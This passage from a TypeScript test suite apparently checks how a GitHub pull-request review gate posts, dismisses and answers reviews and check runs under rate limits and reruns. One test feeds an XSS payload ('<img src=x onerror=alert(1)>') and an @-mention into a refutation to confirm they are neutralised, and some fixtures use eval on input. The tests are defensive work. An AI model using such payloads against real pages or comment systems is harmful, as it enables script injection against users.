      "1 finding(s) are listed below, not commented inline: the pull request's review comments could not be read, so which are already commented cannot be told.",
    ],
    [
      'pulls/get',
      { 'pr-review': 'request-changes' },
      '1 finding(s) are listed below, not commented inline: the pull request could not be read, so whether this commit is still its head cannot be told.',
    ],
  ] as const)
    it(`#573 ${read} unread once: another on-diff finding, the counts the same, is posted in a new review's body, never hidden under the one that stands`, async () => {
      const p = pullRepo();
      await evidence(p, [F_LOOP]);
      verdictKept(await gate(p, inputs));
      const first = github().reviews[0]!.id;
      await evidence(p, [NEW]);
      github().fault(read, { kind: 'secondary-rate-limit', retryAfter: 600 }, 1);
      const r = await gate(p, inputs);
      verdictKept(r);
      expect(github().reviews).toHaveLength(2);
      expect(r.outputs['pr-review-id']).toBe(String(github().reviews[1]!.id));
      expect(r.outputs['pr-review-id']).not.toBe(String(first));
      expect(github().reviews[1]!.body).toContain(why);
      expect(published()).toContain('NEW critical finding F2');
    });
});

describe('#410 one review id over two scopes on one commit (matrix legs, a re-seal)', () => {
  it("#410 a clean run over another scope does not stand for the first one's findings: it fails, naming that scope, and settles none of its review; a rerun of the scope that passed stays green", async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    const first = await gateOnPull(github(), p, { 'pr-review': 'request-changes' }, ENV_CANARIES);
    expect(first.outputs.verdict).toBe('findings');
    const reviewed = github().reviews.map((r) => r.state);
    // Another leg, another runner: the same id sealed over another scope, reviewed clean.
    const leg = pullRepo();
    expect((await cliCase(leg.repo, ['review', 'scope', 'pr-7', '--base', leg.base, '--effort', 'low'])).code).toBe(0);
    expect(scopeHashOf(leg.repo, 'pr-7')).not.toBe(scopeHashOf(p.repo, 'pr-7'));
    writeFindings(leg.repo, 'pr-7', []);
    writeCoverage(leg.repo, 'pr-7', [{ path: 'src/shop.js', outcome: 'completed' }], { run: { stop: 'completed' } });
    const second = await gateOnPull(github(), leg, { 'pr-review': 'request-changes' }, ENV_CANARIES);
    expect(second.outputs.verdict).toBe('incomplete');
    const latest = github().checkRuns.at(-1)!;
    expect([latest.name, latest.conclusion]).toEqual(['proofgate review', 'failure']);
    expect(latest.output?.summary).toContain(
      `also used on this commit by review \`pr-7 over scope ${scopeHashOf(p.repo, 'pr-7').slice(0, 12)}\``,
    );
    expect(github().reviews.map((r) => r.state)).toEqual(reviewed);
    // The first scope fixed and passing: a rerun of the other scope passes, as no run left stands unpassed.
    await evidence(p, []);
    expect((await gateOnPull(github(), p, {}, ENV_CANARIES)).outputs.verdict).toBe('clean');
    expect((await gateOnPull(github(), leg, {}, ENV_CANARIES)).outputs.verdict).toBe('clean');
    expect(github().checkRuns.at(-1)!.conclusion).toBe('success');
  });
});

describe('#413 a gate that stops before its verdict (an input, the intent, the seal)', () => {
  it('#413 the description emptied after a clean run: the run stops, and a failed check run on the head says so, so the clean one no longer stands; the next clean run stands again', async () => {
    const p = pullRepo();
    const head = headSha(p.repo);
    await evidence(p, []);
    expect((await gateOnPull(github(), p, {}, ENV_CANARIES)).outputs.verdict).toBe('clean');
    expect(github().checkRuns.at(-1)!.conclusion).toBe('success');
    const edited = { pull_request: { number: 7, body: ' ', base: { sha: p.base, ref: 'main' }, head: { sha: head } } };
    const r = await actionCase(
      'review-gate.js',
      p.repo,
      { id: 'pr-7', 'github-token': TOKEN, 'upload-artifact': 'false', 'spec-from-pull-request': 'true' },
      { event: edited, env: { ...ENV_CANARIES, GITHUB_API_URL: github().url, GITHUB_REPOSITORY: 'acme/shop' } },
    );
    expect(r.code).not.toBe(0);
    expect(r.commands).toContain(
      '::error::input `spec-from-pull-request`: the pull request has no description; write what the change must do in it, or leave the input out',
    );
    const stopped = github().checkRuns.at(-1)!;
    expect([stopped.head_sha, stopped.name, stopped.conclusion, stopped.output.title]).toEqual([
      head,
      'proofgate review',
      'failure',
      'stopped before a verdict',
    ]);
    expect(stopped.output.summary).toContain('spec-from-pull-request');
    expectNoCanary(sinks(r, [p.repo], github()));
    expect((await gateOnPull(github(), p, {}, ENV_CANARIES)).outputs.verdict).toBe('clean');
    expect(github().checkRuns.at(-1)!.conclusion).toBe('success');
  });
});

/** An `edited` event that empties the description the gate reads its intent from: the run stops before its verdict. */
const stopOn = (p: Pull, mode: string) =>
  actionCase(
    'review-gate.js',
    p.repo,
    { id: 'pr-7', 'github-token': TOKEN, 'upload-artifact': 'false', 'spec-from-pull-request': 'true', 'pr-review': mode },
    {
      event: { pull_request: { number: 7, body: ' ', base: { sha: p.base, ref: 'main' }, head: { sha: headSha(p.repo) } } },
      env: { ...ENV_CANARIES, GITHUB_API_URL: github().url, GITHUB_REPOSITORY: 'acme/shop' },
    },
  );

describe('#473 a gate that stops before its verdict, where its pull request review stands', () => {
  it('#473 request-changes: findings, then clean (the request dismissed), then a stop on that head: a review asks for changes again, once; the next clean run withdraws it', async () => {
    const p = pullRepo();
    const head = headSha(p.repo);
    const states = () => github().reviews.map((r) => [r.commit_id, r.state, r.body.split('\n')[1]]);
    await evidence(p, [F_LOOP]);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }));
    await evidence(p, []);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }), 'clean');
    expect(states().map(([, state]) => state)).toEqual(['DISMISSED', 'COMMENTED']);
    const stop = () => stopOn(p, 'request-changes');
    const comments = github().reviewComments.length;
    const r = await stop();
    expect(r.code).not.toBe(0);
    expect(github().checkRuns.at(-1)!.output.title).toBe('stopped before a verdict');
    const stopped = github().reviews.at(-1)!;
    expect([stopped.commit_id, stopped.state, stopped.body.split('\n')[1]]).toEqual([
      head,
      'CHANGES_REQUESTED',
      '### ❌ proofgate review `pr-7`: **stopped before a verdict**',
    ]);
    expect(stopped.body).toContain('spec-from-pull-request');
    expectNoCanary(sinks(r, [p.repo], github()));
    // The same stop again says nothing new; no thread was answered by a run that judged nothing.
    expect((await stop()).code).not.toBe(0);
    expect(github().reviews).toHaveLength(3);
    expect(github().reviewComments).toHaveLength(comments);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }), 'clean');
    // The clean review is posted again, as the stop's came after the first (hazard 533), and the stop's request withdrawn.
    expect(states().map(([, state]) => state)).toEqual(['DISMISSED', 'COMMENTED', 'DISMISSED', 'COMMENTED']);
  });

  it('#473 comment mode: the stop is said in a comment review; with no review of ours on the head, none is posted', async () => {
    const p = pullRepo();
    const stop = () => stopOn(p, 'comment');
    await evidence(p, []);
    // A check run of this gate without its review, and another gate's review (another check name) on the head.
    verdictKept(await gate(p, { 'pr-review': 'off' }), 'clean');
    verdictKept(await gate(p, { 'pr-review': 'comment', 'check-name': 'other gate' }), 'clean');
    expect((await stop()).code).not.toBe(0);
    expect(github().checkRuns.at(-1)!.output.title).toBe('stopped before a verdict');
    expect(github().reviews).toHaveLength(1);
    verdictKept(await gate(p, { 'pr-review': 'comment' }), 'clean');
    expect((await stop()).code).not.toBe(0);
    expect(github().reviews.map((r) => [r.state, r.body.split('\n')[1]])).toEqual([
      ['COMMENTED', expect.stringContaining('**clean**')],
      ['COMMENTED', expect.stringContaining('**clean**')],
      ['COMMENTED', '### ❌ proofgate review `pr-7`: **stopped before a verdict**'],
    ]);
    expect(github().reviews[2]!.body.split('\n')[0]).toMatch(/^<!-- proofgate-review:proofgate-review post:/);
  });
});

/** GitHub refusing `operation` once with a secondary rate limit whose wait is past what proofgate waits: never retried. */
const refuseOnce = (operation: string) => github().fault(operation, { kind: 'secondary-rate-limit', retryAfter: 600 }, 1);
const RATE_LIMITED = 'could not be read (GitHub answered 403: You have exceeded a secondary rate limit.';
/** A finding asked for changes, then a clean run dismissed the request: where the #514 and #518 cases start. */
const findingsThenClean = async (p: Pull, finding: object = F_LOOP) => {
  await evidence(p, [finding]);
  verdictKept(await gate(p, { 'pr-review': 'request-changes' }));
  await evidence(p, []);
  verdictKept(await gate(p, { 'pr-review': 'request-changes' }), 'clean');
};

describe('#513 a clean leg under a check name another review holds, when GitHub does not answer the lookup of the runs under it', () => {
  it('#513 the list of runs under the name refused once: the clean leg fails, titled for it, and posts no pull request review over the findings leg', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP]);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }));
    const reviewed = github().reviews.map((r) => r.state);
    // Another leg: the same id sealed over another scope, reviewed clean.
    const leg = pullRepo();
    expect((await cliCase(leg.repo, ['review', 'scope', 'pr-7', '--base', leg.base, '--effort', 'low'])).code).toBe(0);
    expect(scopeHashOf(leg.repo, 'pr-7')).not.toBe(scopeHashOf(p.repo, 'pr-7'));
    writeFindings(leg.repo, 'pr-7', []);
    writeCoverage(leg.repo, 'pr-7', [{ path: 'src/shop.js', outcome: 'completed' }], { run: { stop: 'completed' } });
    refuseOnce('checks/list-for-ref');
    const r = await gate(leg, { 'pr-review': 'request-changes' });
    expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
    const latest = github().checkRuns.at(-1)!;
    expect([latest.name, latest.conclusion, latest.output.title]).toEqual([
      'proofgate review',
      'failure',
      'passed alone; could not tell whether the check name is shared',
    ]);
    const why = `Whether the check run name \`proofgate review\` is also used on this commit by another review cannot be told: the check runs named "proofgate review" on the commit ${RATE_LIMITED}`;
    expect(latest.output.summary).toContain(why);
    expect(r.commands.filter((c) => c.startsWith('::error::') && c.includes(why))).toHaveLength(1);
    expect(github().reviews.map((r) => r.state)).toEqual(reviewed);
    expectNoCanary(sinks(r, [leg.repo], github()));
  });
});

describe('#514 a gate that stops before its verdict, or judges, while GitHub does not answer a lookup that could only loosen what it publishes', () => {
  it('#514 a stop after a clean run, the list of runs under the name refused once: the failed run "stopped before a verdict" is published all the same, and a warning names the list', async () => {
    const p = pullRepo();
    await evidence(p, []);
    verdictKept(await gate(p), 'clean');
    refuseOnce('checks/list-for-ref');
    const r = await stopOn(p, 'off');
    expect(r.code).not.toBe(0);
    expect(github().checkRuns.at(-1)).toMatchObject({ conclusion: 'failure', output: { title: 'stopped before a verdict' } });
    expect(warnings(r)).toEqual([
      expect.stringMatching(
        /^::warning::the check runs named "proofgate review" on the commit could not be read \(GitHub answered 403: .*\): a failed check run "stopped before a verdict" is published, as a verdict may stand there$/,
      ),
    ]);
  });

  it('#514 request-changes: findings, clean (the request dismissed), then a stop while the pull request and its reviews cannot be read: the stop still asks for changes', async () => {
    const p = pullRepo();
    await findingsThenClean(p);
    refuseOnce('pulls/get');
    refuseOnce('pulls/list-reviews');
    const r = await stopOn(p, 'request-changes');
    expect(r.code).not.toBe(0);
    expect(github().reviews.map((x) => [x.state, x.body.split('\n')[1]])).toEqual([
      ['DISMISSED', expect.any(String)],
      ['COMMENTED', expect.stringContaining('**clean**')],
      ['CHANGES_REQUESTED', '### ❌ proofgate review `pr-7`: **stopped before a verdict**'],
    ]);
    expect(warnings(r).join('\n')).toContain(`pull request #7 ${RATE_LIMITED}`);
    expect(warnings(r).join('\n')).toContain(`the pull request's reviews ${RATE_LIMITED}`);
  });

  it('#514 request-changes: findings, clean (the request dismissed), then an agent that cannot run on that head: the stop asks for changes again', async () => {
    const p = pullRepo();
    await findingsThenClean(p);
    const r = await gate(p, { 'pr-review': 'request-changes', agent: 'custom', 'agent-cmd': join(p.repo, 'no-such-agent') });
    expect(r.outputs).toMatchObject({ verdict: 'incomplete' });
    expect(r.summary).toContain('the agent cannot run');
    expect(github().checkRuns.at(-1)).toMatchObject({ conclusion: 'failure', output: { title: 'stopped before a verdict' } });
    expect(github().reviews.map((x) => x.state)).toEqual(['DISMISSED', 'COMMENTED', 'CHANGES_REQUESTED']);
  });

  it('#514 findings after a clean run, the lookup of a run to adopt refused once at the close: the findings run is still published, over the clean one', async () => {
    const p = pullRepo();
    await evidence(p, []);
    verdictKept(await gate(p), 'clean');
    await evidence(p, [F_LOOP]);
    // The name's runs are read (none of another review); the next read, for a run left in progress to adopt, is refused.
    let lists = 0;
    github().afterRequest = (op) => {
      if (op === 'checks/list-for-ref' && ++lists === 1) refuseOnce('checks/list-for-ref');
    };
    const r = await gate(p);
    verdictKept(r);
    expect(github().checkRuns.map((x) => x.conclusion)).toEqual(['success', 'failure']);
    expect(warnings(r)).toContainEqual(
      expect.stringContaining(
        `the check runs named "proofgate review" on the commit ${RATE_LIMITED} Please wait a few minutes before you try again.): check run "proofgate review" is made anew`,
      ),
    );
  });

  it('#514 findings after a clean run, the review comments unread: the review still asks for changes, the finding listed in its body', async () => {
    const p = pullRepo();
    await findingsThenClean(p);
    await evidence(p, [F_LOOP]);
    refuseOnce('pulls/list-review-comments');
    const r = await gate(p, { 'pr-review': 'request-changes' });
    verdictKept(r);
    const last = github().reviews.at(-1)!;
    expect(github().reviews.map((x) => x.state)).toEqual(['DISMISSED', 'COMMENTED', 'CHANGES_REQUESTED']);
    expect(last.body).toContain(
      "1 finding(s) are listed below, not commented inline: the pull request's review comments could not be read, so which are already commented cannot be told.",
    );
    expect(warnings(r).join('\n')).toContain(`the pull request's review comments ${RATE_LIMITED}`);
  });

  it('#514 a finding off the diff after a clean run, our reviews unread: the review asking for changes is posted, not taken as standing', async () => {
    const p = pullRepo();
    await findingsThenClean(p, F_OFF);
    await evidence(p, [F_OFF]);
    refuseOnce('pulls/list-reviews');
    const r = await gate(p, { 'pr-review': 'request-changes' });
    verdictKept(r);
    expect(github().reviews.map((x) => x.state)).toEqual(['DISMISSED', 'COMMENTED', 'CHANGES_REQUESTED']);
    expect(warnings(r).join('\n')).toContain(
      `the pull request's reviews ${RATE_LIMITED} Please wait a few minutes before you try again.): whether this review already stands on the commit cannot be told, so it is posted`,
    );
  });
});

describe('#517 a gate whose read of the pull request after the review GitHub does not answer, on a pull request retargeted since its event', () => {
  const server = () => github();
  /** The event names `release`, GitHub shows `main` and refuses the first read of the pull request with a rate limit. */
  function retargetedUnread(p: Pull): string {
    const head = headSha(p.repo);
    Object.assign(server().pull, { repo: p.repo, baseSha: p.base, headSha: head, baseRef: 'main' });
    refuseOnce('pulls/get');
    return head;
  }
  const event = (p: Pull, head: string) => ({ pull_request: { number: 7, base: { sha: p.base, ref: 'release' }, head: { sha: head } } });

  it('#517 review-gate: the clean review is incomplete, naming the read that failed, and its check run fails', async () => {
    const p = pullRepo();
    await evidence(p, []);
    const head = retargetedUnread(p);
    const r = await actionCase(
      'review-gate.js',
      p.repo,
      { id: 'pr-7', 'github-token': TOKEN, 'upload-artifact': 'false', 'pr-review': 'off' },
      {
        event: event(p, head),
        env: { ...ENV_CANARIES, GITHUB_API_URL: server().url, GITHUB_REPOSITORY: 'acme/shop', GITHUB_RUN_ATTEMPT: '2' },
      },
    );
    expect(r.outputs).toMatchObject({ verdict: 'incomplete', 'exit-code': '2' });
    expect(server().checkRuns.at(-1)).toMatchObject({ head_sha: head, conclusion: 'failure' });
    expect(server().checkRuns.at(-1)!.output.summary).toContain(`pull request ${mdText('#7')} ${mdText(RATE_LIMITED)}`);
    expectNoCanary(sinks(r, [p.repo], server()));
  });

  it('#517 `review gate` in a `run:` step: not clean (exit 2), naming the read that failed', async () => {
    const p = pullRepo();
    await evidence(p, []);
    const head = retargetedUnread(p);
    const eventPath = join(mkdtempSync(join(tmpdir(), 'proofgate-adv-gate-event-')), 'event.json');
    writeFileSync(eventPath, JSON.stringify(event(p, head)));
    const r = await cliAsync(p.repo, ['review', 'gate', 'pr-7'], {
      GITHUB_ACTIONS: 'true',
      GITHUB_EVENT_NAME: 'pull_request',
      GITHUB_EVENT_PATH: eventPath,
      GITHUB_TOKEN: TOKEN,
      GITHUB_API_URL: server().url,
      GITHUB_REPOSITORY: 'acme/shop',
      GITHUB_RUN_ATTEMPT: '2',
    });
    expect(r.code, r.stdout + r.stderr).toBe(2);
    expect(r.stdout + r.stderr).toContain(`pull request #7 ${RATE_LIMITED}`);
  });
});

describe('#518 a gate that is not clean while GitHub does not answer the read of the pull request before its review', () => {
  it('#518 request-changes: findings, clean (the request dismissed), findings again with the read refused once: the review asks for changes, the finding in its body, none inline', async () => {
    const p = pullRepo();
    await findingsThenClean(p);
    const comments = github().reviewComments.length;
    await evidence(p, [F_LOOP]);
    refuseOnce('pulls/get');
    const r = await gate(p, { 'pr-review': 'request-changes' });
    verdictKept(r);
    expect(github().reviews.map((x) => x.state)).toEqual(['DISMISSED', 'COMMENTED', 'CHANGES_REQUESTED']);
    expect(github().reviews.at(-1)!.body).toContain(
      '1 finding(s) are listed below, not commented inline: the pull request could not be read, so whether this commit is still its head cannot be told.',
    );
    expect(github().reviewComments).toHaveLength(comments);
    expect(warnings(r).join('\n')).toContain(`pull request #7 ${RATE_LIMITED}`);
    // A clean run that cannot read the pull request withdraws nothing: only a verdict that blocks is posted unread.
    await evidence(p, []);
    refuseOnce('pulls/get');
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }), 'clean');
    expect(github().reviews.map((x) => x.state)).toEqual(['DISMISSED', 'COMMENTED', 'CHANGES_REQUESTED']);
  });
});

describe('#417 a review started by a comment on the pull request (issue_comment)', () => {
  it("#417 the verdict answers the checkout the job reviewed, and its check run is on that commit, never on the default branch's tip (GITHUB_SHA)", async () => {
    const p = pullRepo();
    const head = headSha(p.repo);
    await evidence(p, []);
    const comment = {
      comment: { body: '/review', author_association: 'OWNER' },
      issue: { number: 7, pull_request: { url: 'https://api.github.example/repos/acme/shop/pulls/7' } },
    };
    const r = await actionCase(
      'review-gate.js',
      p.repo,
      { id: 'pr-7', 'github-token': TOKEN, 'upload-artifact': 'false' },
      {
        event: comment,
        env: {
          ...ENV_CANARIES,
          GITHUB_API_URL: github().url,
          GITHUB_REPOSITORY: 'acme/shop',
          GITHUB_EVENT_NAME: 'issue_comment',
          GITHUB_SHA: p.base,
        },
      },
    );
    expect(r.summary).not.toMatch(/stale/);
    const run = github().checkRuns.at(-1)!;
    expect(run.head_sha).toBe(head);
    expect(run.head_sha).not.toBe(p.base);
  });
});

describe('#422 a finding that reads otherwise on a later run', () => {
  const replies = () => github().reviewComments.filter((c) => c.in_reply_to_id !== undefined);
  /** Our comments that still stand for a finding: on the diff, not answered since. */
  const standing = () => inline(github()).filter((c) => c.line !== null && !replies().some((r) => r.in_reply_to_id === c.id));

  it('#422 another severity and words after a push that left its lines alone, then another disposition on a rerun of that commit: each is commented again, the body says so, the earlier thread is answered once; another id, words, confidence, fix or suggestion post nothing', async () => {
    const p = pullRepo();
    await evidence(p, [F_LOOP, F_HEAD]);
    await gate(p);
    const [, low] = inline(github());
    // A push that edits count() only: the quoted lines of both findings are as they were.
    writeFileSync(join(p.repo, 'src/shop.js'), SHOP_V2.replace('return items.length;', 'return items.length >>> 0;'));
    commitAll(p.repo, 'shop: count');
    const head = headSha(p.repo);
    const critical = {
      ...F_HEAD,
      severity: 'critical',
      content: 'CRITICAL: total() sends every item price to an attacker-controlled endpoint.',
    };
    await evidence(p, [F_LOOP, critical]);
    verdictKept(await gate(p));
    expect(github().reviews).toHaveLength(2);
    const body = github().reviews[1]!.body;
    expect(body).toContain('1 finding(s) commented in an earlier review are still open; they are not repeated.');
    expect(body).toContain('1 finding(s) commented in an earlier review read otherwise now');
    expect(standing().map((c) => c.body.split('\n')[1])).toEqual([
      '**high · correctness** · `F1` · _confirmed, high confidence_',
      '**critical · maintainability** · `F2` · _confirmed, high confidence_',
    ]);
    expect(standing()[1]!.body).toContain(mdText(critical.content));
    expect(replies().map((c) => [c.in_reply_to_id, c.body.split('\n')[0]!.replace(/[0-9a-f]{24}/, 'KEY')])).toEqual([
      [low!.id, '<!-- proofgate-review:proofgate-review changed:KEY -->'],
    ]);
    expect(replies()[0]!.body).toContain(
      `Changed: proofgate's review of ${head.slice(0, 12)} finds this otherwise than this comment shows`,
    );
    // The same commit again: another disposition is what a reader triages by, so it is commented again.
    const unresolved = { ...critical, disposition: 'unresolved' };
    await evidence(p, [F_LOOP, unresolved]);
    verdictKept(await gate(p));
    expect(github().reviews).toHaveLength(3);
    expect(standing().map((c) => c.body.split('\n')[1])[1]).toBe('**critical · maintainability** · `F2` · _unresolved, high confidence_');
    expect(replies()).toHaveLength(2);
    // A model numbers and words its findings anew on every run: another id, words, confidence, fix or
    // suggestion leaves the comment standing (the check run has them), and nothing is posted or answered.
    await evidence(p, [
      { ...F_LOOP, id: 'F7', content: 'Reads one item past the end.', suggestion: '  for (const item of items) sum += item.price;\n' },
      { ...unresolved, id: 'F8', confidence: 'low', fix: 'Drop the call.' },
    ]);
    verdictKept(await gate(p));
    expect(github().reviews).toHaveLength(3);
    expect(inline(github())).toHaveLength(4);
    expect(replies()).toHaveLength(2);
  });
});

describe('#423 a finding no longer open that was not fixed', () => {
  const replies = () => github().reviewComments.filter((c) => c.in_reply_to_id !== undefined);

  for (const token of ['job', 'personal'] as const)
    it(`#423 refuted on a rerun of the same commit (${token} token): its thread is answered with the refutation, neutralised, never "Fixed" nor resolved`, async () => {
      const p = pullRepo();
      if (token === 'personal') github().token = { pat: { login: 'octo-reviewer', type: 'User' } };
      await evidence(p, [F_LOOP, F_HEAD]);
      await gate(p);
      const [loop] = inline(github());
      const refutation = 'items is never longer than its loop here. @acme/owners <img src=x onerror=alert(1)> #1';
      await evidence(p, [{ ...F_LOOP, disposition: 'refuted', refutation }, F_HEAD]);
      verdictKept(await gate(p));
      expect(replies().map((c) => c.in_reply_to_id)).toEqual([loop!.id]);
      const [answer] = replies();
      expect(answer!.body.split('\n')[0]).toMatch(/^<!-- proofgate-review:proofgate-review refuted:[0-9a-f]{24} -->$/);
      expect(answer!.body).toContain(`Refuted: proofgate's review of ${headSha(p.repo).slice(0, 12)} finds this does not hold:`);
      expect(answer!.body).toContain('items is never longer than its loop here.');
      expect(answer!.body).not.toContain('Fixed');
      expect(outsideCode(answer!.body.split('\n').slice(1).join('\n'))).not.toMatch(/<img|@acme/);
      expect(github().resolvedThreads.size).toBe(0);
      // Answered once.
      verdictKept(await gate(p));
      expect(replies()).toHaveLength(1);
    });

  it('#423 another category on the same quote, then a finding no longer reported on unchanged lines, then its lines changed: replaced, not reported, and only then fixed (resolved with a token that may)', async () => {
    const p = pullRepo();
    github().token = { pat: { login: 'octo-reviewer', type: 'User' } };
    await evidence(p, [F_LOOP, F_HEAD]);
    await gate(p);
    const [loop, low] = inline(github());
    const security = { ...F_HEAD, id: 'F5', category: 'security' };
    await evidence(p, [F_LOOP, security]);
    verdictKept(await gate(p));
    const at = headSha(p.repo).slice(0, 12);
    expect(replies().map((c) => [c.in_reply_to_id, c.body.split('\n').slice(1).join('\n')])).toEqual([
      [
        low!.id,
        `Replaced: proofgate's review of ${at} finds these lines as a low security finding (\`F5\`); it comments that, or lists it.`,
      ],
    ]);
    // The agent no longer reports the loop though its line is as it was.
    await evidence(p, [security]);
    verdictKept(await gate(p));
    expect(replies().at(-1)).toMatchObject({ in_reply_to_id: loop!.id });
    expect(replies().at(-1)!.body).toContain(`No longer reported: proofgate's review of ${at} does not report this`);
    expect(github().resolvedThreads.size).toBe(0);
    // The loop fixed in a push, the finding brought back first so that its thread is open again.
    await evidence(p, [F_LOOP, security]);
    verdictKept(await gate(p));
    const again = inline(github()).at(-1)!;
    writeFileSync(join(p.repo, 'src/shop.js'), SHOP_V3);
    commitAll(p.repo, 'shop: the loop fixed');
    await evidence(p, [security]);
    verdictKept(await gate(p));
    expect([...github().resolvedThreads]).toEqual([again.id]);
    expect(replies()).toHaveLength(2);
  });
});

describe('#533 a rerun on one commit after a later review of ours said otherwise', () => {
  const verdicts = () => github().reviews.map((r) => /^### \S+ proofgate review `pr-7`: \*\*(\w+)\*\*/m.exec(r.body)?.[1]);
  const findings = (p: Pull) => evidence(p, [F_OFF]);
  const clean = (p: Pull) => evidence(p, []);
  const incomplete = (p: Pull) => evidence(p, [], [{ path: 'src/shop.js', outcome: 'failed' }], 'time-limit');

  for (const [name, runs] of [
    ['findings, clean, then the same findings', [findings, clean, findings]],
    ['incomplete, clean, then incomplete again', [incomplete, clean, incomplete]],
    ['clean, findings, then clean again', [clean, findings, clean]],
  ] as const)
    it(`#533 ${name}: the last run posts a review saying it, never the first one's under the one between; once more, nothing`, async () => {
      const p = pullRepo();
      const said: string[] = [];
      let r: Awaited<ReturnType<typeof gate>> | undefined;
      for (const run of runs) {
        await run(p);
        r = await gate(p);
        said.push(r.outputs.verdict!);
      }
      expect(verdicts()).toEqual(said);
      expect(r!.outputs['pr-review-id']).toBe(String(github().reviews[2]!.id));
      // The newest says it now: a rerun stands on it.
      expect((await gate(p)).outputs['pr-review-id']).toBe(String(github().reviews[2]!.id));
      expect(github().reviews).toHaveLength(3);
    });

  it('#533 a force-push back to a commit reviewed before a newer clean review on another commit: its review is posted again', async () => {
    const p = pullRepo();
    const older = headSha(p.repo);
    await findings(p);
    verdictKept(await gate(p));
    writeFileSync(join(p.repo, 'src/shop.js'), SHOP_V3);
    commitAll(p.repo, 'shop: the loop fixed');
    await clean(p);
    verdictKept(await gate(p), 'clean');
    git(p.repo, 'reset', '-q', '--hard', older);
    await findings(p);
    const r = await gate(p);
    verdictKept(r);
    expect(github().reviews.map((x) => [x.commit_id, verdicts()[github().reviews.indexOf(x)]])).toEqual([
      [older, 'findings'],
      [expect.not.stringMatching(older), 'clean'],
      [older, 'findings'],
    ]);
    expect(r.outputs['pr-review-id']).toBe(String(github().reviews[2]!.id));
  });

  it('#533 request-changes: findings, then clean with the dismissal refused, then the same findings: a new request for changes, not the one under the clean review', async () => {
    const p = pullRepo();
    await findings(p);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }));
    await clean(p);
    github().fault('pulls/dismiss-review', { kind: 'status', status: 422 }, 1);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }), 'clean');
    await findings(p);
    verdictKept(await gate(p, { 'pr-review': 'request-changes' }));
    expect(github().reviews.map((x) => x.state)).toEqual(['CHANGES_REQUESTED', 'COMMENTED', 'CHANGES_REQUESTED']);
    expect(verdicts()).toEqual(['findings', 'clean', 'findings']);
  });

  it('#533 a review continued over two requests (60 comments): a rerun posts nothing, as the continuation says nothing of its own', async () => {
    const { p, findings: many } = manyFindings('more', 60);
    await evidence(p, many, [{ path: 'src/more.js', outcome: 'completed' }]);
    verdictKept(await gate(p));
    expect(github().reviews).toHaveLength(2);
    const r = await gate(p);
    verdictKept(r);
    expect(github().reviews).toHaveLength(2);
    expect(r.outputs['pr-review-id']).toBe(String(github().reviews[0]!.id));
  });
});

describe('#534 settling the threads of fixed findings after a push that made their file long', () => {
  const replies = () => github().reviewComments.filter((c) => c.in_reply_to_id !== undefined);
  /** A pull request adding `files` (path, text) to one of `// a`, and the gate's first run on its findings. */
  async function firstRun(files: [string, string][], found: object[]): Promise<Pull> {
    const repo = emptyRepo('proofgate-pr-long-');
    mkdirSync(join(repo, 'src'));
    for (const [path] of files) writeFileSync(join(repo, path), '// a\n');
    writeFileSync(join(repo, '.gitignore'), '_bmad-output/\n');
    commitAll(repo, 'base');
    const p = { repo, base: headSha(repo) };
    for (const [path, text] of files) writeFileSync(join(repo, path), text);
    commitAll(repo, 'change');
    await evidence(
      p,
      found,
      files.map(([path]) => ({ path, outcome: 'completed' })),
    );
    verdictKept(await gate(p));
    expect(inline(github())).toHaveLength(found.length);
    return p;
  }
  /** A push that writes `files`, and the clean run on it: how long it took. */
  async function fixedBy(p: Pull, files: [string, string][]): Promise<number> {
    for (const [path, text] of files) writeFileSync(join(p.repo, path), text);
    commitAll(p.repo, 'fix');
    // GitHub shows the comments on changed lines as outdated.
    for (const c of github().reviewComments) c.line = null;
    await evidence(
      p,
      [],
      files.map(([path]) => ({ path, outcome: 'completed' })),
    );
    const started = Date.now();
    verdictKept(await gate(p), 'clean');
    return Date.now() - started;
  }

  // Each file of the change is searched for every quote (hazard 551), so each long file is a pull request of its own here.
  it('#534 100 one-line findings, their file now 300,000 lines long: each thread answered "Fixed", in seconds, never a search of the file for every thread', async () => {
    const line = (i: number) => `export const v${i} = eval(input${i});`;
    const p = await firstRun(
      [['src/a.js', Array.from({ length: 100 }, (_, i) => line(i)).join('\n') + '\n']],
      Array.from({ length: 100 }, (_, i) => ({ ...CART_FINDING, id: `M${i}`, path: 'src/a.js', existing_code: line(i) })),
    );
    // Before: 28 s (each thread hashed every line).
    const took = await fixedBy(p, [['src/a.js', Array.from({ length: 300_000 }, (_, i) => `${i % 10}`).join('\n') + '\n']]);
    expect(replies()).toHaveLength(100);
    for (const c of replies()) expect(c.body).toMatch(/\nFixed: proofgate no longer finds this at [0-9a-f]{12}\./);
    expect(took).toBeLessThan(10_000);
  });

  it('#534 one finding quoting 10,000 lines, its file now 300,000 lines long: its thread answered "Fixed", in seconds, never a hash of every window', async () => {
    const block = `start();\n${'\n'.repeat(9_998)}end();`;
    const p = await firstRun([['src/b.js', `// b\n${block}\n`]], [{ ...CART_FINDING, id: 'L1', path: 'src/b.js', existing_code: block }]);
    // Before: 17.7 s (every window of it).
    const took = await fixedBy(p, [['src/b.js', `// b\n${'\n'.repeat(300_000)}`]]);
    expect(replies()).toHaveLength(1);
    expect(replies()[0]!.body).toMatch(/\nFixed: proofgate no longer finds this at [0-9a-f]{12}\./);
    expect(took).toBeLessThan(10_000);
  });

  it('#534 a quote of 2,500 lines, its file now 60,000 other lines: past the bound of the search it is not told, so its thread says no longer reported, never "Fixed"', async () => {
    const quote = Array.from({ length: 2_500 }, (_, i) => `v${i};`).join('\n');
    const p = await firstRun([['src/a.js', `// a\n${quote}\n`]], [{ ...CART_FINDING, id: 'L1', path: 'src/a.js', existing_code: quote }]);
    const took = await fixedBy(p, [['src/a.js', Array.from({ length: 60_000 }, (_, i) => `w${i % 10};`).join('\n') + '\n']]);
    expect(replies().map((c) => c.body.split('\n').slice(1).join('\n'))).toEqual([
